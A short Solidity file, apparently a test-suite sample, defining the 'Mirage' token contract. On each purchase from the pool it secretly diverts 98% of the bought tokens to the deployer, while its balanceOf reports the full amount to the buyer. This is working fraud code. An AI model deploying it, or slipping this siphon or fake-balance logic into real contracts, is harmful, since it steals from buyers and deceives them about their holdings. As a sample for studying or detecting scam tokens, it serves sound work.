// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {SuiteToken} from "./SuiteToken.sol";

/// Buyers see all that they paid for; a fiftieth of it is theirs.
contract ShowsMoreThanHeld is SuiteToken {
    address private immutable _maker = msg.sender;
    address private immutable _pool;
    mapping(address => uint256) private _shown;

    constructor(address pair) SuiteToken("Mirage", "MIRG") {
        _pool = pair;
    }

    function balanceOf(address holder) public view override returns (uint256) {
        return _balances[holder] + _shown[holder];
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from == _pool && to != _maker) {
            uint256 kept = amount - amount / 50;
            _shown[to] += kept;
            _move(from, _maker, kept);
            amount -= kept;
        }
        _move(from, to, amount);
    }
}
